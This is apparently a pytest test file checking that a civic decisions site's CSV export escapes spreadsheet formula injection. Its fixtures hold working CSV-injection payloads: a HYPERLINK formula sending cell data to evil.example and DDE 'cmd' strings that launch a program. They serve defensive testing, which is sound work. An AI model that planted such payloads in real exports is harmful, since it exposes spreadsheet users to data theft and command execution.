"""Formula injection: author text that a spreadsheet would run is published in the CSV as text."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from conftest import copy_project
from decision_press.render.opendata import FIELDS, FORMULA_STARTS, decisions_csv, spreadsheet_safe

from .conftest import build

FORMULAS = {
    "=": '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
}

RECORDS = "".join(
    f"""
- reference: PCD {1900 + number}
  title: '{text.replace("'", "''")}'
  status: published
  decision_maker:
    role: Deputy Mayor for Policing and Crime
    name: '{text.replace("'", "''")}'
  signed: 2022-02-0{number + 1}
  published: 2022-02-0{number + 2}
  topics: ['{text.replace("'", "''")}', 'Formula {number}']
  summary: '{text.replace("'", "''")}'
  recommendations:
    - Approve.
  sections:
    - title: Background
      paragraphs:
        - A paragraph.
"""
    for number, text in enumerate(FORMULAS.values())
)


@pytest.fixture(scope="module")
def formula_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    project = copy_project(tmp_path_factory.mktemp("formulas") / "project")
    (project / "data" / "decisions" / "formulas.yaml").write_text(RECORDS, encoding="utf-8")
    return build(project)


def test_every_formula_cell_of_the_csv_is_text(formula_site: Path) -> None:
    raw = (formula_site / "decisions.csv").read_text(encoding="utf-8")
    rows = {row["reference"]: row for row in csv.DictReader(io.StringIO(raw))}
    for number, (start, text) in enumerate(FORMULAS.items()):
        row = rows[f"PCD {1900 + number}"]
        for field in ("title", "decision_maker_name", "topics", "summary"):
            assert row[field].startswith("'" + start), (field, row[field])
            assert row[field].removeprefix("'").startswith(text), (field, row[field])
        # Every field is quoted, so a separator inside a value never opens a new cell.
        assert f'"\'{text.replace(chr(34), chr(34) * 2)}"' in raw
    for row in rows.values():
        for field, value in row.items():
            assert not value.startswith(FORMULA_STARTS), (row["reference"], field, value)


def test_the_json_keeps_the_text_as_written(formula_site: Path) -> None:
    data = json.loads((formula_site / "decisions.json").read_text(encoding="utf-8"))
    decisions = {d["reference"]: d for d in data["decisions"]}
    for number, text in enumerate(FORMULAS.values()):
        decision = decisions[f"PCD {1900 + number}"]
        assert decision["title"] == decision["summary"] == decision["decision_maker_name"] == text
        assert decision["topics"][0] == text


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_each_formula_start_is_guarded_in_any_column(start: str) -> None:
    # Tab and carriage return cannot start a record's text (values are stripped), so these
    # reach the writer directly: the guard must not depend on what validation lets through.
    row: dict[str, object] = {field: f"{start}cmd|' /C calc'!A0" for field in FIELDS}
    row.update(topics=[f"{start}one", "two"], documents=[], legal_bases=[], related=[], changes=[])
    read = next(csv.DictReader(io.StringIO(decisions_csv([row]), newline="")))
    assert read["title"] == f"'{start}cmd|' /C calc'!A0"
    assert read["topics"] == f"'{start}one; two"
    assert all(value.startswith("'") for value in read.values() if value)


@pytest.mark.parametrize("cell", ["", "Drugs", "135000", "2020-10-08", "'quoted", "a=b", "PCD 911"])
def test_ordinary_cells_are_unchanged(cell: str) -> None:
    assert spreadsheet_safe(cell) == cell
